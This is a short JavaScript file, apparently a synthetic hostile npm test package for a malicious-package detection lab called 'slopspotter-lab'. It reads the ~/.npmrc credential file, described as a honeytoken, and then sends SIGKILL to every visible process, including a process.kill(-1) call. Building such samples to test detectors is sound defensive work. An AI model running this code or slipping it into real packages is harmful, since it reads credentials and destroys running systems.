// SYNTHETIC hostile test package for slopspotter-lab: reads ~/.npmrc (a honeytoken in the
// sandbox), then sends SIGKILL to every process it can see, its own phase runner included.
const fs = require("fs");
const os = require("os");
try { fs.readFileSync(os.homedir() + "/.npmrc"); } catch (e) {}
for (const pid of fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
  if (Number(pid) !== process.pid) { try { process.kill(Number(pid), "SIGKILL"); } catch (e) {} }
}
try { process.kill(-1, "SIGKILL"); } catch (e) {}
